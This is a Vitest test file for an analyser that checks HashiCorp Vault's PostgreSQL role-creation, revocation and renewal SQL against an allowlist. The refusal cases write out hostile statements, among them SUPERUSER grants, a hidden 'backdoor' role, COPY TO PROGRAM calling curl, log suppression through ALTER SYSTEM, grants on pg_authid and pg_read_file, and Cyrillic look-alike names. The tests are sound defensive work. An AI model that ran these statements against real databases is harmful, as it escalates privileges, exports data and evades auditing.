/** The SQL module: PostgreSQL's grammar read as Vault runs statements, judged by the allowlist. */
import { describe, expect, it } from "vitest";
import { analyseCreation, analyseRenewal, analyseRevocation, parsePostgres, vaultExpiration, vaultPieces } from "../../components/core/sql";
import { parseSqlInWorker } from "../../components/core/sql/parser";

const GOOD_CREATE = `CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}'`;
const codes = (problems: readonly { code: string }[]) => [...new Set(problems.map((p) => p.code))].sort();

describe("parsePostgres", () => {
  it("splits on every ';' like Vault and maps placeholders back", () => {
    const parsed = parsePostgres([`${GOOD_CREATE}; GRANT SELECT ON invoices TO "{{name}}";`]);
    expect(parsed.problems).toEqual([]);
    expect(parsed.statements.map((s) => s.kind)).toEqual(["CreateRoleStmt", "GrantStmt"]);
    expect(parsed.statements[1]!.text).toBe(`GRANT SELECT ON invoices TO "{{name}}"`);
  });

  it("fails closed with the parser's message", () => {
    const parsed = parsePostgres([`CREAT ROLE "{{name}}"`]);
    expect(parsed.problems[0]).toMatchObject({ code: "unparseable" });
    expect(parsed.problems[0]!.message).toMatch(/syntax error at or near "CREAT"/);
  });

  it("reads a ';' inside a comment as Vault does: the rest is its own statement", () => {
    const effects = analyseCreation([`${GOOD_CREATE} -- harmless; ALTER ROLE postgres PASSWORD 'x'`]);
    expect(effects.statements.map((s) => s.kind)).toEqual(["CreateRoleStmt", "AlterRoleStmt"]);
    expect(codes(effects.problems)).toContain("foreign-role");
  });

  it("refuses an unquoted {{name}} (Vault's names contain '-') and unknown placeholders", () => {
    expect(parsePostgres([`CREATE ROLE {{name}} LOGIN`]).problems[0]?.code).toBe("unparseable");
    expect(parsePostgres([`GRANT SELECT ON {{table}} TO "{{name}}"`]).problems[0]?.message).toMatch(/\{\{table\}\}/);
  });

  it("refuses entries Vault would decode as base64 or JSON", () => {
    expect(vaultPieces("Q1JFQVRFIFJPTEU=", "creation").ok).toBe(false);
    expect(vaultPieces('["DROP ROLE x"]', "other").ok).toBe(false);
    expect(vaultPieces("BEGIN; SELECT 1; END", "creation").ok).toBe(false);
  });

  it("gives the same tree from the worker as from this thread", () => {
    const sql = `GRANT SELECT ON invoices TO "x"`;
    const worker = parseSqlInWorker(sql);
    expect(worker.ok).toBe(true);
    expect(parsePostgres([sql]).statements[0]!.node).toEqual(worker.ok ? (worker.tree.stmts![0]!.stmt as Record<string, unknown>).GrantStmt : undefined);
  });
});

describe("analyseCreation", () => {
  it("accepts the canonical role with named-object grants", () => {
    const effects = analyseCreation([
      GOOD_CREATE,
      `GRANT SELECT, INSERT ON public.invoices, ledger TO "{{name}}"; GRANT USAGE ON SCHEMA app TO "{{name}}"; GRANT SELECT ON app.totals TO "{{name}}"`,
    ]);
    expect(effects.problems).toEqual([]);
    expect(effects.createdRoles).toEqual(["{{name}}"]);
    expect(effects.attributes).toEqual([
      { name: "canlogin", value: "true" },
      { name: "password", value: "{{password}}" },
      { name: "validUntil", value: "{{expiration}}" },
    ]);
    expect(effects.validUntilIsExpiration).toBe(true);
    expect(effects.grants[0]).toEqual({
      privileges: ["select", "insert"],
      objectType: "table",
      target: "object",
      objects: ["public.invoices", "ledger"],
      grantees: ["{{name}}"],
      withGrantOption: false,
    });
    expect(effects.grants[2]!.objects).toEqual(["app.totals"]);
    expect(effects.rolesTouched).toEqual(["{{name}}"]);
  });

  it.each([
    ["SUPERUSER", `CREATE ROLE "{{name}}" WITH LOGIN SUPERUSER PASSWORD '{{password}}' VALID UNTIL '{{expiration}}'`, "role-attribute"],
    ["CREATEROLE", `CREATE USER "{{name}}" CREATEROLE PASSWORD '{{password}}' VALID UNTIL '{{expiration}}'`, "role-attribute"],
    ["BYPASSRLS", `CREATE ROLE "{{name}}" LOGIN BYPASSRLS PASSWORD '{{password}}' VALID UNTIL '{{expiration}}'`, "role-attribute"],
    ["a fixed password", `CREATE ROLE "{{name}}" LOGIN PASSWORD 'hunter2' VALID UNTIL '{{expiration}}'`, "role-attribute"],
    ["IN ROLE", `CREATE ROLE "{{name}}" LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}' IN ROLE rds_superuser`, "role-membership"],
    ["GRANT rds_superuser", `${GOOD_CREATE}; GRANT rds_superuser TO "{{name}}"`, "role-membership"],
    ["GRANT pg_read_all_data", `${GOOD_CREATE}; GRANT pg_read_all_data TO "{{name}}"`, "role-membership"],
    ["ALL TABLES IN SCHEMA", `${GOOD_CREATE}; GRANT SELECT ON ALL TABLES IN SCHEMA public TO "{{name}}"`, "grant-scope"],
    ["ALL PRIVILEGES", `${GOOD_CREATE}; GRANT ALL PRIVILEGES ON invoices TO "{{name}}"`, "grant-scope"],
    ["ON DATABASE", `${GOOD_CREATE}; GRANT CREATE ON DATABASE ledger TO "{{name}}"`, "grant-scope"],
    ["schema CREATE", `${GOOD_CREATE}; GRANT CREATE ON SCHEMA public TO "{{name}}"`, "grant-scope"],
    ["TRUNCATE", `${GOOD_CREATE}; GRANT TRUNCATE ON invoices TO "{{name}}"`, "grant-scope"],
    ["WITH GRANT OPTION", `${GOOD_CREATE}; GRANT SELECT ON invoices TO "{{name}}" WITH GRANT OPTION`, "grant-scope"],
    ["grant to PUBLIC", `${GOOD_CREATE}; GRANT SELECT ON invoices TO PUBLIC`, "foreign-role"],
    ["another role's password", `${GOOD_CREATE}; ALTER ROLE postgres PASSWORD 'x'`, "foreign-role"],
    ["a second role", `${GOOD_CREATE}; CREATE ROLE backdoor LOGIN PASSWORD 'x' VALID UNTIL 'infinity'`, "foreign-role"],
    ["ALTER SYSTEM", `${GOOD_CREATE}; ALTER SYSTEM SET log_statement = 'none'`, "statement"],
    ["COPY PROGRAM", `${GOOD_CREATE}; COPY invoices TO PROGRAM 'curl example.com'`, "statement"],
    ["SET ROLE", `${GOOD_CREATE}; SET ROLE postgres`, "statement"],
    ["ALTER DEFAULT PRIVILEGES", `${GOOD_CREATE}; ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO "{{name}}"`, "statement"],
    ["SELECT on pg_authid (password hashes)", `${GOOD_CREATE}; GRANT SELECT ON pg_authid TO "{{name}}"`, "grant-scope"],
    ["SELECT on pg_catalog.pg_statistic", `${GOOD_CREATE}; GRANT SELECT ON pg_catalog.pg_statistic TO "{{name}}"`, "grant-scope"],
    ["EXECUTE on pg_read_file", `${GOOD_CREATE}; GRANT EXECUTE ON FUNCTION pg_read_file(text) TO "{{name}}"`, "grant-scope"],
    ["EXECUTE on a schema-qualified function", `${GOOD_CREATE}; GRANT EXECUTE ON FUNCTION app.total(int) TO "{{name}}"`, "grant-scope"],
    ["EXECUTE on dblink_connect_u", `${GOOD_CREATE}; GRANT EXECUTE ON FUNCTION public.dblink_connect_u(text) TO "{{name}}"`, "grant-scope"],
    ["EXECUTE on a procedure", `${GOOD_CREATE}; GRANT EXECUTE ON PROCEDURE app.close_books() TO "{{name}}"`, "grant-scope"],
    ["EXECUTE on an unqualified function", `${GOOD_CREATE}; GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO "{{name}}"`, "grant-scope"],
    ["USAGE on pg_catalog", `${GOOD_CREATE}; GRANT USAGE ON SCHEMA pg_catalog TO "{{name}}"`, "grant-scope"],
    ["{{ name }} (Vault leaves it as written)", `${GOOD_CREATE}; GRANT SELECT ON invoices TO "{{ name }}"`, "unparseable"],
    ["no VALID UNTIL", `CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}'`, "valid-until"],
    ["VALID UNTIL infinity", `CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL 'infinity'`, "role-attribute"],
  ])("refuses %s", (_label, sql, code) => {
    expect(codes(analyseCreation([sql]).problems)).toContain(code);
  });

  it("refuses a list without CREATE ROLE and an empty list", () => {
    expect(
      analyseCreation([`GRANT SELECT ON invoices TO "{{name}}"`])
        .problems.map((p) => p.message)
        .join(),
    ).toMatch(/no CREATE ROLE/);
    expect(analyseCreation([]).problems).not.toEqual([]);
  });
});

describe("analyseRevocation", () => {
  const grants = analyseCreation([`${GOOD_CREATE}; GRANT SELECT ON invoices TO "{{name}}"`]).grants;

  it("accepts REVOKE/DROP OWNED, ending sessions and DROP ROLE last", () => {
    const effects = analyseRevocation(
      [
        `SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{{name}}'`,
        `REVOKE ALL ON invoices FROM "{{name}}"; DROP ROLE IF EXISTS "{{name}}"`,
      ],
      { grants },
    );
    expect(effects.problems).toEqual([]);
    expect(effects).toMatchObject({ dropsRole: true, terminatesSessions: true, dropsOwned: false });
    expect(analyseRevocation([`DROP OWNED BY "{{name}}"; DROP ROLE "{{name}}"`], { grants }).problems).toEqual([]);
  });

  it.each([
    ["an empty list", [], /no revocation statements/],
    ["a no-op", [`ALTER ROLE "{{name}}" NOLOGIN`], /not allowed/],
    ["no drop", [`REVOKE ALL ON invoices FROM "{{name}}"`], /does not drop/],
    ["drop before revoke", [`DROP ROLE "{{name}}"; REVOKE ALL ON invoices FROM "{{name}}"`], /not the last/],
    [
      "drop before revoke, dropped again at the end",
      [`DROP ROLE IF EXISTS "{{name}}"`, `REVOKE ALL ON invoices FROM "{{name}}"; DROP ROLE IF EXISTS "{{name}}"`],
      /appears 2 times/,
    ],
    ["a -- END comment (Vault 1.13+ runs the entry whole)", [`REVOKE ALL ON invoices FROM "{{name}}" -- END; DROP ROLE "{{name}}"`], /END/],
    ["END in a later entry", [`REVOKE ALL ON invoices FROM "{{name}}"`, `DROP ROLE "{{name}}" /* END */`], /hashicorp\/vault#18632/],
    ["the role named twice in DROP ROLE", [`REVOKE ALL ON invoices FROM "{{name}}"; DROP ROLE "{{name}}", "{{name}}"`], /repeated name/],
    ["only the grant option revoked", [`REVOKE GRANT OPTION FOR SELECT ON invoices FROM "{{name}}"; DROP ROLE "{{name}}"`], /grant option/],
    ["a revoke granted by another role", [`REVOKE ALL ON invoices FROM "{{name}}" GRANTED BY postgres; DROP ROLE "{{name}}"`], /GRANTED BY/],
    ["grants left behind", [`DROP ROLE IF EXISTS "{{name}}"`], /some objects depend on it/],
    ["another role", [`DROP OWNED BY "{{name}}"; DROP ROLE "{{name}}", postgres`], /postgres/],
    ["REASSIGN OWNED", [`REASSIGN OWNED BY "{{name}}" TO postgres; DROP ROLE "{{name}}"`], /REASSIGN OWNED/],
    ["another SELECT", [`SELECT pg_terminate_backend(pid) FROM pg_stat_activity; DROP OWNED BY "{{name}}"; DROP ROLE "{{name}}"`], /only SELECT allowed/],
  ])("refuses %s", (_label, sql, message) => {
    expect(
      analyseRevocation(sql, { grants })
        .problems.map((p) => p.message)
        .join("\n"),
    ).toMatch(message);
  });

  it("checks rollback statements without requiring a drop", () => {
    expect(analyseRevocation([`REVOKE ALL ON invoices FROM "{{name}}"`], { requireDrop: false }).problems).toEqual([]);
    expect(analyseRevocation([`ALTER SYSTEM RESET ALL`], { requireDrop: false }).problems).not.toEqual([]);
  });
});

describe("analyseRenewal and vaultExpiration", () => {
  it("allows only the expiry update of {{name}}", () => {
    expect(analyseRenewal([`ALTER ROLE "{{name}}" VALID UNTIL '{{expiration}}'`]).problems).toEqual([]);
    expect(analyseRenewal([`ALTER ROLE "{{name}}" VALID UNTIL 'infinity'`]).problems).not.toEqual([]);
    expect(analyseRenewal([`ALTER ROLE postgres VALID UNTIL '{{expiration}}'`]).problems[0]?.code).toBe("foreign-role");
  });

  it("formats the expiry as Vault's Go layout 2006-01-02 15:04:05-0700", () => {
    expect(vaultExpiration(new Date("2026-11-28T09:30:05.123Z"))).toBe("2026-11-28 09:30:05+0000");
  });
});

describe("non-ASCII SQL (a look-alike letter names another object)", () => {
  it("reads the ASCII grant and refuses the same grant with one Cyrillic letter, naming the code point", () => {
    expect(parsePostgres([`GRANT SELECT ON invoices TO "{{name}}"`]).problems).toEqual([]);
    const [problem] = parsePostgres([`GRANT SELECT ON invoic\u0435s TO "{{name}}"`]).problems;
    expect(problem).toMatchObject({ code: "unparseable", entry: 0 });
    expect(problem!.message).toContain("U+0435");
    expect(problem!.message).toContain("first at character 23");
    expect(parsePostgres([`GRANT SELECT ON "invoic\u0435s" TO "{{name}}"`]).problems[0]?.message).toContain("non-ASCII");
    expect(parsePostgres([`GRANT SELECT ON invoices TO "{{name}}" -- équipe`]).problems[0]?.message).toContain("U+00E9");
  });
});
